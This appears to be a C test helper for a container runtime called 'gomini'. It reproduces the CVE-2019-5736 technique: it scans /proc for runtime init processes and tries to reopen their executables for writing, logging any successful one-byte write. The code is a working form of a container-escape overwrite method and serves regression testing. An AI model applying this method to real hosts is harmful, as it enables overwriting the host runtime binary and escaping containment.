/* CVE-2019-5736's exploit, reduced to what the test needs: run inside a container, it watches /proc
 * for a gomini process (an exec-init: "gomini init" until it execs), holds its exe open read-only, and then keeps
 * trying to reopen it for writing through /proc/self/fd/N (as the exploit does once runc has
 * exited) and to open /proc/<pid>/exe for writing directly. Every catch goes to /tried, every
 * successful write to /wrote (with what the fd names). Stops when /stop exists. Built static by the test (gcc -static). */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void note(const char *file, const char *line) {
    FILE *f = fopen(file, "a");
    if (f) { fprintf(f, "%s\n", line); fclose(f); }
}

static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }

static int is_gomini(int pid) {
    char path[64], cmdline[32] = {0};
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    FILE *f = fopen(path, "r");
    if (!f) return 0;
    size_t n = fread(cmdline, 1, sizeof cmdline - 1, f);
    fclose(f);
    return n >= 7 && memcmp(cmdline, "gomini", 7) == 0; /* "gomini\0init" */
}

int main(void) {
    int held[256], caught[256]; double since[256]; int count = 0; char path[64], target[256], line[512];
    while (access("/stop", F_OK) != 0) {
        DIR *proc = opendir("/proc");
        struct dirent *e;
        while (proc && (e = readdir(proc))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == getpid()) continue;
            /* An exec-init is "gomini init" until it execs. Its exe's path may not resolve from here
             * (it lives on a mount of another namespace), so its command line names it. */
            if (!is_gomini(pid)) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t n = readlink(path, target, sizeof target - 1);
            target[n > 0 ? n : 0] = 0;
            int seen = 0;
            for (int i = 0; i < count; i++) seen |= caught[i] == pid;
            if (seen) continue;
            int direct = open(path, O_WRONLY | O_APPEND);
            if (direct >= 0 && write(direct, "x", 1) == 1) { snprintf(line, sizeof line, "direct %d %s", pid, target); note("/wrote", line); }
            if (direct >= 0) close(direct);
            int fd = open(path, O_RDONLY);
            if (fd < 0 || count >= 256) continue;
            /* The check and the open race with the exec-init's execve: an fd opened just after it is
             * the container's own program (busybox), which the container may write anyway. If the
             * command line still says gomini after the open, the open came before the execve. */
            if (!is_gomini(pid)) {
                snprintf(line, sizeof line, "%d %s", pid, target); note("/raced", line);
                close(fd); caught[count] = pid; held[count] = -1; since[count] = now(); count++;
                continue;
            }
            held[count] = fd; caught[count] = pid; since[count] = now(); count++;
            snprintf(line, sizeof line, "%d exe %s", pid, target);
            note("/tried", line);
        }
        if (proc) closedir(proc);
        for (int i = 0; i < count; i++) {
            if (held[i] < 0) continue;
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            int w = open(path, O_WRONLY | O_APPEND);
            if (w >= 0 && write(w, "x", 1) == 1) {
                char what[256]; ssize_t k = readlink(path, what, sizeof what - 1); what[k > 0 ? k : 0] = 0;
                snprintf(line, sizeof line, "held fd %s -> %s", path, what); note("/wrote", line);
            }
            if (w >= 0) close(w);
            if (now() - since[i] > 3) { close(held[i]); held[i] = -1; }
        }
    }
    return 0;
}
